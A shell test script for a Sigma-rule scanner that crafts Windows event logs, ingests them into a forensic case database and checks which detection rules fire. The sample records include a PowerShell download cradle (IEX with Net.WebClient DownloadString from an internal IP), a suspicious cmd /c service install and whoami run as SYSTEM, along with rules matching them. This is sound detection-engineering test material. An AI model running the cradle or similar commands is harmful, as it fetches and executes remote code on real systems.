#!/bin/sh
# t3501-sigma-scan.sh - Sigma rules over a case file (tests/sigma-scan
# scan): logs crafted from a text description, ingested with the real
# binary; hits per record in order; process_creation from Sysmon 1 and
# Security 4688 alike; casetrail's zero-padded hex values; damaged data;
# the same hits on one thread and on two; hits checked against SQL.
. "$TOP_SRCDIR/tests/t/lib.sh"

SIGMA_SCAN=$TOP_BUILDDIR/tests/sigma-scan

# sqlw CASE FILE: run the SQL in FILE on CASE, read-write (the test
# changes a record's data the way a damaged or edited case would)
sqlw() {
	sqlite3 -batch "$1" <"$2"
}

cat >spec <<'EOF'
# 1: Sysmon process creation
event Microsoft-Windows-Sysmon/Operational|Microsoft-Windows-Sysmon|1
Image=C:\Windows\System32\whoami.exe
CommandLine=whoami /all
ParentImage=C:\Windows\System32\cmd.exe
User=NT AUTHORITY\SYSTEM
LogonId=0x3e7
# 2: the same, audited by Security (hex process IDs)
event Security|Microsoft-Windows-Security-Auditing|4688
SubjectUserSid=S-1-5-18
SubjectUserName=FIN-WS042$
SubjectDomainName=CORP
SubjectLogonId=0x3e7
NewProcessId=0x1a2c
NewProcessName=C:\Windows\System32\whoami.exe
ProcessId=0x4d2
CommandLine=whoami /all
ParentProcessName=C:\Windows\System32\cmd.exe
# 3: a download cradle in a script block
event Microsoft-Windows-PowerShell/Operational|Microsoft-Windows-PowerShell|4104
MessageNumber=1
MessageTotal=1
ScriptBlockText=IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.5/a')
# 4: a service install
event System|Service Control Manager|7045
ServiceName=updater
ImagePath=cmd /c C:\Users\Public\u.exe
# 5: a logon, which no rule names
event Security|Microsoft-Windows-Security-Auditing|4624
TargetUserName=bob
LogonType=3
EOF

mkdir rules
cat >rules/a-whoami.yml <<'EOF'
title: Whoami run
id: t-whoami
author: test
level: high
logsource:
    category: process_creation
    product: windows
detection:
    sel:
        Image|endswith: '\whoami.exe'
        ParentImage|endswith: '\cmd.exe'
        CommandLine|contains|windash: ' -all'
    condition: sel
EOF
cat >rules/b-cradle.yml <<'EOF'
title: Cradle
id: t-cradle
author: test
level: medium
logsource:
    category: ps_script
    product: windows
detection:
    sel:
        ScriptBlockText|contains|all:
            - 'Net.WebClient'
            - '.DownloadString('
    condition: sel
EOF
cat >rules/c-service.yml <<'EOF'
title: Service with cmd
id: t-service
author: test
level: high
logsource:
    product: windows
    service: system
detection:
    sel:
        Provider_Name: 'Service Control Manager'
        EventID: 7045
        ImagePath|contains: 'cmd /c'
    condition: sel
EOF
cat >rules/d-system.yml <<'EOF'
title: As SYSTEM
id: t-system
author: test
level: low
logsource:
    category: process_creation
    product: windows
detection:
    sel:
        LogonId: '0x3e7'
        User|contains: 'AUTHORI'
        ProcessId|exists: true
    filter:
        ProcessId: 6700
    condition: sel and not filter
EOF

test_expect_success 'a crafted log is ingested' '
	"$SIGMA_SCAN" craft spec crafted.evtx &&
	casetrail ingest -q case.db crafted.evtx &&
	sql case.db "SELECT record_id FROM evtx ORDER BY record_number" >ids &&
	test "$(wc -l <ids)" -eq 5
'

test_expect_success 'hits: one line per record and rule, in order' '
	r1=$(sed -n 1p ids) r2=$(sed -n 2p ids) r3=$(sed -n 3p ids) r4=$(sed -n 4p ids) &&
	# the Sysmon record has no ProcessId: t-system needs one
	echo "UPDATE evtx SET data = json_set(data, '"'"'$.ProcessId'"'"', '"'"'42'"'"') WHERE record_id = $r1;" >u1.sql &&
	sqlw case.db u1.sql &&
	"$SIGMA_SCAN" scan case.db rules >hits 2>err &&
	printf "%s\tt-whoami\thigh\tWhoami run\n%s\tt-system\tlow\tAs SYSTEM\n" "$r1" "$r1" >expect &&
	printf "%s\tt-whoami\thigh\tWhoami run\n" "$r2" >>expect &&
	printf "%s\tt-cradle\tmedium\tCradle\n%s\tt-service\thigh\tService with cmd\n" "$r3" "$r4" >>expect &&
	test_cmp expect hits &&
	test_grep "5 record(s), 5 hit(s)" err
'

test_expect_success '4688: NewProcessId in hex is ProcessId 6700, so the filter applies' '
	! grep "^$(sed -n 2p ids)	t-system" hits
'

test_expect_success 'zero-padded hex values (HexInt64 as casetrail stores them) match 0x3e7' '
	r1=$(sed -n 1p ids) &&
	echo "UPDATE evtx SET data = json_set(data, '"'"'$.LogonId'"'"', '"'"'0x00000000000003e7'"'"') WHERE record_id = $r1;" >u2.sql &&
	sqlw case.db u2.sql &&
	"$SIGMA_SCAN" scan case.db rules/d-system.yml >hits2 &&
	test_grep "^$r1	t-system" hits2
'

test_expect_success '-L high keeps high and critical hits' '
	"$SIGMA_SCAN" scan -L high case.db rules >high &&
	test "$(wc -l <high)" -eq 3 &&
	! grep -q "	low	\|	medium	" high
'

test_expect_success 'damaged data JSON: counted, the rest still scanned' '
	r3=$(sed -n 3p ids) &&
	echo "UPDATE evtx SET data = '"'"'{\"ScriptBlockText\": \"x'"'"' WHERE record_id = $r3;" >u3.sql &&
	sqlw case.db u3.sql &&
	"$SIGMA_SCAN" scan case.db rules >hits3 2>err &&
	test_grep "1 bad data" err &&
	test "$(grep -c . hits3)" -eq 4
'

test_expect_success 'a file that is not a case is refused' '
	echo "not a case" >nocase.db &&
	test_must_fail "$SIGMA_SCAN" scan nocase.db rules 2>err &&
	test_grep "nocase.db" err
'

if [ -x "$TOP_BUILDDIR/corpus/mkevtx" ]; then
test_expect_success 'generated log: the same hits on one thread and two, as SQL counts them' '
	"$TOP_BUILDDIR/corpus/mkevtx" --generate 40000 --seed 7 gen.evtx >/dev/null &&
	casetrail ingest -q gen.db gen.evtx &&
	cat >rules/e-teams.yml <<-\EOF &&
	title: Teams child
	id: t-teams
	level: informational
	logsource:
	    category: process_creation
	    product: windows
	detection:
	    sel:
	        Image|endswith: "\\Teams.exe"
	        CommandLine|contains: "--type=renderer"
	    condition: sel
	EOF
	"$SIGMA_SCAN" scan -j1 gen.db rules >one 2>err1 &&
	"$SIGMA_SCAN" scan -j2 gen.db rules >two 2>err2 &&
	test_grep "2 thread(s)" err2 &&
	test_cmp one two &&
	want=$(sql gen.db "SELECT count(*) FROM evtx WHERE event_id = 1 AND
	    channel = \"Microsoft-Windows-Sysmon/Operational\" AND
	    json_extract(data, \"$.Image\") LIKE \"%\\Teams.exe\" AND
	    json_extract(data, \"$.CommandLine\") LIKE \"%--type=renderer%\"") &&
	test "$want" -gt 0 &&
	test "$(grep -c "	t-teams	" one)" -eq "$want" &&
	sort -n -c one
'
else
	test_count=$((test_count + 1))
	echo "ok $test_count - generated log # SKIP corpus/mkevtx not built"
fi

test_done
